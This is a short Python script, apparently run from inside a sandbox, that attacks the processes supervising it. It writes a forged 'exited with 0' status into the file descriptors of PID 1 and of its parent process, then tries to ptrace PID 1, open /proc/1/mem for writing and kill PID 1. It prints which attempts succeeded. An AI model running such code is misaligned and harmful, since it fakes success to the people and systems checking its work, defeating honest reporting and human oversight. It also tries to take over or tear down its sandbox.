# The first process of the sandbox and every other one above us: the ones that report the result.
import ctypes, os, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
# Forged "ended with 0": what the launcher would say.
forged = struct.pack("ii", 4, 0)
for pid in {1, os.getppid()} - {os.getpid()}:
    if os.environ.get("ATTACK_SHELL") == str(pid):
        continue
    for fd in range(3, 20):
        try:
            with open("/proc/%d/fd/%d" % (pid, fd), "wb") as f:
                f.write(forged)
            print("SUCCEEDED", fd)
        except OSError:
            pass
    if pid == 1:
        if libc.ptrace(16, pid, None, None) == 0:
            print("SUCCEEDED ptrace")
        try:
            open("/proc/1/mem", "r+b")
            print("SUCCEEDED mem")
        except OSError as e:
            print(e)
        try:
            os.kill(1, signal.SIGKILL)
        except OSError as e:
            print(e)
for fd in range(3, 64):
    try:
        os.write(fd, forged)
        print("SUCCEEDED, descriptor", fd, "is open")
    except OSError:
        pass
print("tried")
